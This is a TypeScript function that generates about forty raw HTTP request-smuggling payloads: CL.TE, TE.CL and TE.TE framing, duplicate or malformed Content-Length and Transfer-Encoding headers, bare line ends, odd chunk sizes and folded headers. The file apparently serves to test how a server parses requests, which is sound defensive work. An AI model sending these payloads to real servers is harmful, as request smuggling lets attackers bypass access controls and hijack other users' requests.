/** Bytes of a POST request that a careless server reads as two, of which `inner` is the second. */
export function smugglingAttempts(path: string, inner: string): [what: string, bytes: string][] {
  const outer = (lines: string[], body: string) =>
    [`POST ${path} HTTP/1.1`, 'Host: a', 'Content-Type: application/json', ...lines, '', body].join('\r\n')
  const chunked = 'Transfer-Encoding: chunked'
  const length = inner.length
  const lastChunk = `0\r\n\r\n${inner}`

  return [
    ['CL.TE framing', outer([`Content-Length: ${length + 5}`, chunked], lastChunk)],
    [
      'TE.CL framing',
      outer([chunked, 'Content-Length: 4'], `${length.toString(16)}\r\n${inner}\r\n0\r\n\r\n`),
    ],
    ['TE.TE framing', outer([chunked, 'Transfer-Encoding: identity'], lastChunk)],
    ['two lengths', outer(['Content-Length: 0', `Content-Length: ${length}`], inner)],
    ['two lengths, the larger first', outer([`Content-Length: ${length}`, 'Content-Length: 0'], inner)],
    ['two equal lengths', outer(['Content-Length: 0', 'Content-Length: 0'], inner)],
    ['a list of lengths', outer([`Content-Length: 0,${length}`], inner)],
    ['a list of lengths with a space', outer([`Content-Length: 0, ${length}`], inner)],
    ['a signed length', outer(['Content-Length: +0'], inner)],
    ['a hexadecimal length', outer(['Content-Length: 0x0'], inner)],
    ['a length without digits', outer(['Content-Length:'], inner)],
    ['a length with a space before the colon', outer(['Content-Length : 0'], inner)],
    ['a coding after chunked', outer(['Transfer-Encoding: chunked, identity'], lastChunk)],
    ['a misspelt coding', outer(['Transfer-Encoding: xchunked'], lastChunk)],
    ['a coding with a space before the colon', outer(['Transfer-Encoding : chunked'], lastChunk)],
    ['a coding with a tab before the colon', outer(['Transfer-Encoding\t: chunked'], lastChunk)],
    ['a coding after a tab', outer(['Transfer-Encoding:\tchunked', 'Content-Length: 3'], lastChunk)],
    [
      'a coding after a vertical tab',
      outer(['Transfer-Encoding: \u000bchunked', 'Content-Length: 5'], lastChunk),
    ],
    ['a coding on a folded line', outer(['Transfer-Encoding:', ' chunked', 'Content-Length: 3'], lastChunk)],
    ['another folded line', outer(['X-A: b', ' Content-Length: 5', 'Content-Length: 0'], inner)],
    [
      'a coding after a bare CR',
      outer(['X-A: b\rTransfer-Encoding: chunked', 'Content-Length: 3'], lastChunk),
    ],
    [
      'a coding after a bare LF',
      outer(['X-A: b\nTransfer-Encoding: chunked', 'Content-Length: 5'], lastChunk),
    ],
    ['bare LFs in the head', `POST ${path} HTTP/1.1\nHost: a\nContent-Length: 0\n\n${inner}`],
    ['a NUL in a value', outer(['X-A: b\0', 'Content-Length: 0'], inner)],
    ['a chunk of size -0', outer([chunked], `-0\r\n\r\n${inner}`)],
    ['a chunk of negative size', outer([chunked], `-1\r\n\r\n${lastChunk}`)],
    ['a chunk size with 0x', outer([chunked], `0x0\r\n\r\n${inner}`)],
    ['a chunk size of too many digits', outer([chunked], `${'0'.repeat(20)}10000000000000000\r\n${inner}`)],
    ['a chunk of immense size', outer([chunked], `fffffffffffffffff\r\n${inner}`)],
    ['a chunk that ends in LF', outer([chunked], `2\n{}\n0\n\n${inner}`)],
    ['a chunk extension that ends in LF', outer([chunked], `2;a\n{}\r\n${lastChunk}`)],
    ['a line end in a chunk extension', outer([chunked], `1;a\nb\r\nx\r\n${lastChunk}`)],
    ['chunks in HTTP/1.0', `POST ${path} HTTP/1.0\r\n${chunked}\r\nContent-Length: 5\r\n\r\n${lastChunk}`],
    ['a request in its request line', `POST ${path} HTTP/1.1\r\n ${inner}`],
    ['a line end in its target', `POST ${path}?\n${inner}`],
    ['an incomplete body', outer(['Content-Length: 999999'], inner)],
    ['an incomplete body after Expect', outer(['Expect: 100-continue', 'Content-Length: 999999'], inner)],
    [
      'an upgrade to a web socket',
      outer(['Connection: Upgrade', 'Upgrade: websocket', 'Content-Length: 0'], inner),
    ],
  ]
}
